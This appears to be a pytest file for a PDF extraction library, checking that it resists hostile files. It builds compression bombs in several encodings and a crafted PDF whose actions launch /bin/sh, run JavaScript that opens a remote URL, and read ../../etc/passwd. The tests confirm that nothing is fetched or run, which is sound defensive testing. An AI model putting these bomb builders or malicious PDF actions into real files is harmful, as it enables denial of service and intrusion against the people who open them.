"""Files that want more than to be read: bombs in every packing, scripts, attachments, addresses."""

from __future__ import annotations

import io
import socket
import time
import zlib
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream
from tests.pdf.making import form, pdf_bytes, text, written

from extract.base.codes import RefusedFile
from extract.pdf.file.limits import Limits
from extract.pdf.reading import open_document
from extract.pdf.records import Page
from extract.reports import extract_report

ENGINES = ("auto", "pdfplumber")


def words(page: Page) -> list[str]:
    return [word.text for word in page.words]


# -- bombs -------------------------------------------------------------------------------------------------


def lzw_bomb(rounds: int) -> bytes:
    """Codes that each stand for one space more than the one before (ISO 32000-1, 7.4.4)."""
    bits = []
    for _ in range(rounds):
        width = 9
        bits += [f"{256:0{width}b}", f"{32:0{width}b}"]
        for code in range(258, 4094):
            bits.append(f"{code:0{width}b}")
            width = 9 + (code + 1 >= 511) + (code + 1 >= 1023) + (code + 1 >= 2047)
        # The next clearing is read with the width of now.
        bits.append(f"{256:0{width}b}")
    packed = "".join(bits)
    packed += "0" * (-len(packed) % 8)
    return int(packed, 2).to_bytes(len(packed) // 8, "big")


BOMBS = {
    "repeated bytes": (bytes([129, 32]) * 400_000 + b"\x80", ["RunLengthDecode"]),
    "codes that grow": (lzw_bomb(3), ["LZWDecode"]),
    "zeros in base 85": (b"z" * 4_000_000 + b"~>", ["ASCII85Decode"]),
    "packed twice": (zlib.compress(zlib.compress(b" " * 50_000_000, 9), 9), ["FlateDecode", "FlateDecode"]),
    "packed and repeated": (zlib.compress(bytes([129, 32]) * 400_000, 9), ["FlateDecode", "RunLengthDecode"]),
}


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("bomb", BOMBS)
def test_bombs_are_not_unpacked(tmp_path: Path, engine: str, bomb: str) -> None:
    packed, filters = BOMBS[bomb]
    pdf = Pdf.open(io.BytesIO(pdf_bytes(text("eins"), text("zwei"))))
    stream = Stream(pdf, packed)
    stream.stream_dict.Filter = Array([Name("/" + name) for name in filters])
    pdf.pages[0].obj.Contents = pdf.make_indirect(stream)
    path = tmp_path / "bericht.pdf"
    pdf.save(path, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    start = time.process_time()
    with open_document(path, engine=engine, limits=Limits(stream_bytes=8_000_000)) as document:
        first, second = document.pages()
    assert time.process_time() - start < 5
    assert [defect.code for defect in first.defects] == ["page-limit"]
    assert words(second) == ["zwei"]


@pytest.mark.parametrize("engine", ENGINES)
def test_what_was_read_before_a_failure_stays(tmp_path: Path, engine: str) -> None:
    pdf = Pdf.open(io.BytesIO(pdf_bytes(text("davor") + "/Fm0 Do", xobjects={"Fm0": form(text("nie"))})))
    broken = pdf.pages[0].obj.Resources.XObject.Fm0
    broken.write(b"fax", filter=Name.CCITTFaxDecode)
    path = tmp_path / "bericht.pdf"
    pdf.save(path, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    with open_document(path, engine=engine) as document:
        page = next(document.pages())
    assert words(page) == ["davor"]
    assert [defect.code for defect in page.defects] == ["page-unreadable"]


# -- encryption ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize(
    "method",
    [
        {"R": 2, "aes": False, "metadata": False},
        {"R": 3, "aes": False, "metadata": False},
        {"R": 4, "aes": False, "metadata": False},
        {"R": 4, "aes": True},
        {"R": 4, "aes": True, "metadata": False},
        {"R": 6},
        {"R": 6, "metadata": False},
    ],
)
def test_files_locked_against_changes_only_are_read(
    tmp_path: Path, engine: str, method: dict[str, Any]
) -> None:
    lock = pikepdf.Encryption(user="", owner="eigner", **method)
    data = pdf_bytes(text("Grüße vom Amt"), encryption=lock, info={"Title": "Bericht über das Tal"})
    with open_document(written(tmp_path, data), engine=engine) as document:
        assert document.source.title == "Bericht über das Tal"
        assert words(next(document.pages())) == ["Grüße", "vom", "Amt"]


def test_encryption_for_certificates_is_refused_in_plain_words(tmp_path: Path) -> None:
    pdf = Pdf.open(io.BytesIO(pdf_bytes(text("nichts für uns"))))
    path = tmp_path / "bericht.pdf"
    pdf.save(path, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    lock = b"/ID [<00><00>] /Encrypt <</Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5>> >>\nstartxref"
    data = path.read_bytes()
    end = data.rindex(b">>\nstartxref")
    path.write_bytes(data[:end] + lock + data[end + len(b">>\nstartxref") :])
    with pytest.raises(RefusedFile, match="no password opens") as caught:
        open_document(path)
    assert caught.value.code == "unknown-encryption"


# -- what a file asks for ---------------------------------------------------------------------------------


def demanding(folder: Path) -> Path:
    """A file that wants to run, open, submit and fetch."""
    pdf = Pdf.open(io.BytesIO(pdf_bytes(text("Stand der Arbeit vom 3. Mai 2021") + "/Im0 Do /Fm0 Do")))
    address = "http://192.0.2.1/holen"
    pdf.attachments["programm.exe"] = b"MZ kein Programm"
    script = Dictionary(S=Name.JavaScript, JS="app.launchURL('http://192.0.2.1/')")
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.Names.JavaScript = Dictionary(Names=Array([pikepdf.String("los"), script]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    page = pdf.pages[0].obj
    place = Array([72, 690, 200, 720])
    actions = [
        Dictionary(S=Name.Launch, F="/bin/sh"),
        Dictionary(S=Name.GoToR, F=address, D=Array([0, Name.Fit])),
        Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=address)),
        Dictionary(S=Name.ImportData, F="../../etc/passwd"),
        Dictionary(S=Name.URI, URI="file:///etc/passwd"),
        Dictionary(S=Name.URI, URI=address),
    ]
    page.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=place, A=action) for action in actions]
    )
    outside = Dictionary(FS=Name.URL, F=address)
    picture = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Image, Width=9, Height=9, F=outside)
    reference = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    reference.Ref = Dictionary(F=outside, Page=0)
    page.Resources.XObject = Dictionary(Im0=picture, Fm0=reference)
    path = folder / "bericht.pdf"
    pdf.save(path)
    return path


def test_nothing_is_fetched_and_nothing_is_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[object] = []

    def refuse(*arguments: object, **_: object) -> None:
        asked.append(arguments)
        raise OSError("no network in this test")

    for name in ("connect", "connect_ex", "bind", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr("subprocess.Popen.__init__", refuse)
    monkeypatch.setattr("os.system", refuse)
    path = demanding(tmp_path)
    before = sorted(tmp_path.iterdir())
    for engine in ENGINES:
        report = extract_report(path, profile="prosa", engine=engine)
        assert [found.mention.text for found in report.dates] == ["3. Mai 2021"]
    with pytest.raises(OSError, match="no network"):
        socket.create_connection(("192.0.2.1", 80))
    assert len(asked) == 1
    assert sorted(tmp_path.iterdir()) == before


def test_only_addresses_of_the_web_are_links(tmp_path: Path) -> None:
    with open_document(demanding(tmp_path)) as document:
        page = next(document.pages())
    assert [link.uri for link in page.hyperlinks] == ["http://192.0.2.1/holen"]
